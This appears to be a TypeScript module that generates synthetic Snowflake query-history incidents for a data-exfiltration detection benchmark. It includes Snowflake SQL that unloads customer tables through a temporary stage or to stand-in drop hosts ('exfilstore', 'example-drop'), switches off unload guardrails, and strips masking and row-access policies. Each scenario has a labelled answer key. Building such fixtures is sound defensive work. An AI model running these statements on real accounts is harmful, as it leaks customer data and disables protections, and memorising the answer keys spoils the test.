// Exfiltration stories: the UNC5537 stage chain (SF-06), unloads to external locations and cross-cloud egress
// (SF-07, SF-09), a result-volume spike (SF-08), guardrail parameters switched off (SF-10) and data-protection
// policies removed (SF-11).
import { tableByName } from '../catalog.ts';
import { dayCount, planDay, sessionQueries } from '../activity.ts';
import { tableObject } from '../rows.ts';
import type { IncidentModule } from './module.ts';

const customers = tableByName('CUSTOMERS');

export const stageChain: IncidentModule = {
  kind: 'stage_chain',
  cast: () => [
    { name: 'LMOREAU', firstName: 'Lena', lastName: 'Moreau', kind: 'person_mfa', roles: ['DATA_ENGINEER'], workload: 'engineer', clients: ['snowsqlMac'], active: true, typos: false },
    { name: 'BDUBOIS', firstName: 'Bruno', lastName: 'Dubois', kind: 'person_mfa', roles: ['DATA_ENGINEER'], workload: 'engineer', clients: ['snowsqlMac'], active: true, typos: false },
  ],
  build(script) {
    const session = script.usualSession('LMOREAU', script.hoursBeforeEnd(14), 'DATA_ENGINEER');
    const stage = 'TMP_EXPORT_7F3A';
    const create = script.query(session, { text: `CREATE TEMPORARY STAGE ${stage}`, type: 'CREATE', database: 'SALES', schema: 'PUBLIC', elapsedMs: 300 });
    const unload = script.query(session, {
      text: `COPY INTO @${stage}/customers/\nFROM (SELECT * FROM SALES.PUBLIC.CUSTOMERS)\nFILE_FORMAT = (TYPE = CSV COMPRESSION = GZIP)\nHEADER = TRUE`,
      type: 'UNLOAD',
      database: 'SALES',
      schema: 'PUBLIC',
      after: 95_000,
      elapsedMs: 48_000,
      bytesScanned: 910_000_000,
      rowsProduced: 1,
      bytesWrittenToResult: 120,
      rowsUnloaded: 1_250_000,
      access: {
        direct: [tableObject(customers, customers.columns)],
        modified: [{ objectDomain: 'Stage', objectName: `SALES.PUBLIC.${stage}`, objectId: 77001, stageKind: 'Internal Named', location: `@${stage}/customers/` }],
      },
    });
    const get = script.query(session, { text: `GET @${stage}/customers/ file:///tmp/exp/`, type: 'GET_FILES', database: 'SALES', schema: 'PUBLIC', after: 300_000, elapsedMs: 61_000, rowsProduced: 8, bytesWrittenToResult: 1_400 });
    script.incident({
      kind: 'stage_chain',
      detectionId: 'exfil.stage_chain',
      user: 'LMOREAU',
      time: get.end,
      evidenceView: 'QUERY_HISTORY',
      evidenceIds: [create.queryId, unload.queryId, get.queryId],
      description: `CREATE TEMPORARY STAGE ${stage}, COPY INTO @${stage} (UNLOAD, 1.25 M rows of SALES.PUBLIC.CUSTOMERS) and GET @${stage} to a local path, same user and session within 8 minutes.`,
      attributes: { stage, sessionId: String(session.sessionId) },
    });

    // Near-miss: the nightly export to a permanent named stage; no temporary stage and no GET.
    const export_ = script.usualSession('BDUBOIS', script.hoursBeforeEnd(12), 'DATA_ENGINEER');
    const nm = script.query(export_, {
      text: 'COPY INTO @RAW.LANDING.EXPORT_STAGE/daily_revenue/\nFROM ANALYTICS.MARTS.DAILY_REVENUE\nFILE_FORMAT = (TYPE = PARQUET)',
      type: 'UNLOAD',
      database: 'ANALYTICS',
      schema: 'MARTS',
      elapsedMs: 9_000,
      bytesWrittenToResult: 110,
      rowsUnloaded: 3_650,
    });
    script.nearMiss({ detectionId: 'exfil.stage_chain', user: 'BDUBOIS', evidenceView: 'QUERY_HISTORY', evidenceIds: [nm.queryId], why_not: 'Unload to a permanent named stage with no CREATE TEMPORARY STAGE and no GET: not the staging chain.' });
  },
};

export const externalUnload: IncidentModule = {
  kind: 'external_unload',
  cast: () => [
    { name: 'ZXU', firstName: 'Zoe', lastName: 'Xu', kind: 'person_mfa', roles: ['DATA_ENGINEER'], workload: 'engineer', clients: ['jupyter'], active: true, typos: false },
  ],
  build(script) {
    const session = script.usualSession('ZXU', script.hoursBeforeEnd(10), 'DATA_ENGINEER');
    const targets = [
      { text: "COPY INTO 's3://acme-tmp-exports/customers/'\nFROM SALES.PUBLIC.CUSTOMERS\nCREDENTIALS = (AWS_KEY_ID = '****' AWS_SECRET_KEY = '****')\nFILE_FORMAT = (TYPE = CSV)", location: 's3', rows: 1_250_000, outbound: null },
      { text: "COPY INTO 'azure://exfilstore.blob.core.windows.net/drop/orders/'\n  FROM SALES.PUBLIC.ORDERS\n  CREDENTIALS = (AZURE_SAS_TOKEN = '****')", location: 'azure', rows: 4_800_000, outbound: { cloud: 'AZURE', region: 'westeurope', bytes: 312_000_000 } },
      { text: "COPY INTO 'https://files.example-drop.net/upload/line_items/'\nFROM SALES.PUBLIC.LINE_ITEMS", location: 'https', rows: 900_000, outbound: null },
    ] as const;
    for (const target of targets) {
      const q = script.query(session, {
        text: target.text,
        type: 'UNLOAD',
        database: 'SALES',
        schema: 'PUBLIC',
        after: 60_000,
        elapsedMs: 30_000,
        bytesWrittenToResult: 120,
        rowsUnloaded: target.rows,
        outbound: target.outbound,
      });
      script.incident({ kind: 'external_unload', detectionId: 'exfil.unload_external_location', user: 'ZXU', time: q.end, evidenceView: 'QUERY_HISTORY', evidenceIds: [q.queryId], description: `COPY INTO an inline ${target.location} URL (unload of ${target.rows.toLocaleString('en-US')} rows).`, attributes: { location: target.location } });
      if (target.outbound) {
        script.add('DATA_TRANSFER_HISTORY', {
          START_TIME: q.start.toISOString(),
          END_TIME: q.end.toISOString(),
          SOURCE_CLOUD: 'AWS',
          SOURCE_REGION: 'us-east-1',
          TARGET_CLOUD: target.outbound.cloud,
          TARGET_REGION: target.outbound.region,
          BYTES_TRANSFERRED: target.outbound.bytes,
          TRANSFER_TYPE: 'COPY',
        });
        script.incident({ kind: 'external_unload', detectionId: 'exfil.cross_region_egress', user: 'ZXU', time: q.end, evidenceView: 'QUERY_HISTORY', evidenceIds: [q.queryId], description: `First transfer to ${target.outbound.cloud} ${target.outbound.region} (COPY, ${target.outbound.bytes} bytes); DATA_TRANSFER_HISTORY row starting ${q.start.toISOString()}.`, attributes: { targetCloud: target.outbound.cloud, targetRegion: target.outbound.region, transferType: 'COPY', transferStartTime: q.start.toISOString() } });
      }
    }
    // Near-miss: a load FROM an inline S3 URL (QUERY_TYPE COPY) by the ETL service.
    const etl = script.usualSession('ETL_SVC', script.hoursBeforeEnd(11), 'ETL_LOADER');
    const load = script.query(etl, { text: "COPY INTO RAW.LANDING.ORDERS_RAW\nFROM 's3://acme-landing/orders/2026/'\nSTORAGE_INTEGRATION = S3_LANDING\nFILE_FORMAT = (TYPE = JSON)", type: 'COPY', database: 'RAW', schema: 'LANDING', rowsInserted: 52_000, bytesWrittenToResult: 400 });
    script.nearMiss({ detectionId: 'exfil.unload_external_location', user: 'ETL_SVC', evidenceView: 'QUERY_HISTORY', evidenceIds: [load.queryId], why_not: "A load INTO a table FROM an S3 URL (QUERY_TYPE COPY), not an unload to one." });
  },
};

export const volumeSpike: IncidentModule = {
  kind: 'volume_spike',
  cast: () => [
    { name: 'PPETROV', firstName: 'Priya', lastName: 'Petrov', kind: 'person_mfa', roles: ['ANALYST'], workload: 'analyst', clients: ['snowsight'], active: true, typos: false, dailyResultBytes: 25e6 },
  ],
  build(script, ctx) {
    const session = script.usualSession('PPETROV', script.hoursBeforeEnd(9), 'ANALYST');
    const ids: string[] = [];
    let last = session.createdOn;
    for (const [table, bytes] of [['CUSTOMERS', 2_600_000_000], ['ORDERS', 2_100_000_000], ['LINE_ITEMS', 1_800_000_000]] as const) {
      const spec = tableByName(table);
      const q = script.query(session, {
        text: `SELECT *\nFROM SALES.PUBLIC.${table}`,
        type: 'SELECT',
        database: 'SALES',
        schema: 'PUBLIC',
        after: 120_000,
        elapsedMs: 95_000,
        bytesScanned: bytes * 3,
        bytesWrittenToResult: bytes,
        rowsProduced: Math.round(bytes / 180),
        access: { direct: [tableObject(spec, spec.columns)] },
      });
      ids.push(q.queryId);
      last = q.end;
    }
    script.incident({ kind: 'volume_spike', detectionId: 'exfil.result_volume_spike', user: 'PPETROV', time: last, evidenceView: 'QUERY_HISTORY', evidenceIds: ids, description: 'About 6.5 GB written to results in one day by a user whose usual daily volume is about 25 MB (z-score far above 3).', attributes: { spikeBytes: 6_500_000_000, usualDailyBytes: 25_000_000 } });

    // Near-miss: the BI service reads ~4 GB every day; large, but normal for it.
    const tableau = script.persona('TABLEAU_SVC');
    const plan = planDay(ctx.activity, tableau, Math.max(0, dayCount(ctx.activity) - 2));
    const session0 = plan.sessions[0];
    if (session0) {
      const sample: string[] = [];
      for (const q of sessionQueries(ctx.activity, plan, session0)) {
        if (q.query.QUERY_TYPE === 'SELECT') sample.push(String(q.query.QUERY_ID));
        if (sample.length === 2) break;
      }
      script.nearMiss({ detectionId: 'exfil.result_volume_spike', user: 'TABLEAU_SVC', evidenceView: 'QUERY_HISTORY', evidenceIds: sample, why_not: 'About 4.2 GB of results every day (+-15%): big, but within the user\'s own baseline.' });
    }
  },
};

export const guardrailDisabled: IncidentModule = {
  kind: 'guardrail_disabled',
  cast: () => [],
  build(script, ctx) {
    const enable = script.usualSession('KLARSEN', script.windowPoint(0.15, 10), 'ACCOUNTADMIN');
    const on = script.query(enable, { text: 'ALTER ACCOUNT SET REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_CREATION = TRUE', type: 'ALTER_ACCOUNT' });
    script.nearMiss({ detectionId: 'exfil.guardrail_disabled', user: 'KLARSEN', evidenceView: 'QUERY_HISTORY', evidenceIds: [on.queryId], why_not: 'The guardrail was switched ON (= TRUE), not off.' });

    const session = script.usualSession('KLARSEN', script.hoursBeforeEnd(19.5), 'ACCOUNTADMIN');
    const changes = [
      { parameter: 'PREVENT_UNLOAD_TO_INLINE_URL', text: 'ALTER ACCOUNT SET PREVENT_UNLOAD_TO_INLINE_URL = FALSE' },
      { parameter: 'REQUIRE_STORAGE_INTEGRATION_FOR_STAGE_OPERATION', text: '-- temporary, for the vendor migration\nALTER ACCOUNT\n  SET require_storage_integration_for_stage_operation = false' },
    ];
    for (const change of changes) {
      const q = script.query(session, { text: change.text, type: 'ALTER_ACCOUNT' });
      ctx.parameters[change.parameter] = 'false';
      script.incident({ kind: 'guardrail_disabled', detectionId: 'exfil.guardrail_disabled', user: 'KLARSEN', time: q.end, evidenceView: 'QUERY_HISTORY', evidenceIds: [q.queryId], description: `ALTER ACCOUNT set ${change.parameter} to FALSE.`, attributes: { parameter: change.parameter } });
      script.incident({ kind: 'guardrail_disabled', detectionId: 'exfil.guardrail_disabled', type: 'posture', user: null, object: change.parameter, time: q.end, evidenceView: 'QUERY_HISTORY', evidenceIds: [q.queryId], description: `Account parameter ${change.parameter} is false (SHOW PARAMETERS IN ACCOUNT).`, attributes: { parameter: change.parameter } });
    }
  },
};

export const policyRemoved: IncidentModule = {
  kind: 'policy_removed',
  cast: () => [
    { name: 'FGARCIA', firstName: 'Fatima', lastName: 'Garcia', kind: 'person_mfa', roles: ['DATA_ENGINEER'], workload: 'engineer', clients: ['snowsight'], active: true },
  ],
  build(script) {
    const before = script.usualSession('FGARCIA', script.windowPoint(0.4, 11), 'DATA_ENGINEER');
    const add = script.query(before, { text: 'ALTER TABLE HR.PUBLIC.EMPLOYEES MODIFY COLUMN EMAIL SET MASKING POLICY HR.GOVERNANCE.EMAIL_MASK', type: 'ALTER_TABLE_MODIFY_COLUMN', database: 'HR', schema: 'PUBLIC' });
    script.nearMiss({ detectionId: 'exfil.protection_policy_removed', user: 'FGARCIA', evidenceView: 'QUERY_HISTORY', evidenceIds: [add.queryId], why_not: 'A masking policy was SET (added), not unset or dropped.' });

    const session = script.usualSession('FGARCIA', script.hoursBeforeEnd(4.5), 'DATA_ENGINEER');
    const removals = [
      { text: 'ALTER TABLE HR.PUBLIC.EMPLOYEES MODIFY COLUMN SSN UNSET MASKING POLICY', type: 'ALTER_TABLE_MODIFY_COLUMN', what: 'masking policy unset on HR.PUBLIC.EMPLOYEES.SSN' },
      { text: 'ALTER TABLE HR.PUBLIC.SALARIES\n  DROP ROW ACCESS POLICY HR.GOVERNANCE.SALARY_BY_REGION', type: 'ALTER_TABLE', what: 'row access policy dropped from HR.PUBLIC.SALARIES' },
    ];
    for (const removal of removals) {
      const q = script.query(session, { text: removal.text, type: removal.type, database: 'HR', schema: 'PUBLIC' });
      script.incident({ kind: 'policy_removed', detectionId: 'exfil.protection_policy_removed', user: 'FGARCIA', time: q.end, evidenceView: 'QUERY_HISTORY', evidenceIds: [q.queryId], description: `Data protection removed: ${removal.what}.` });
    }
  },
};
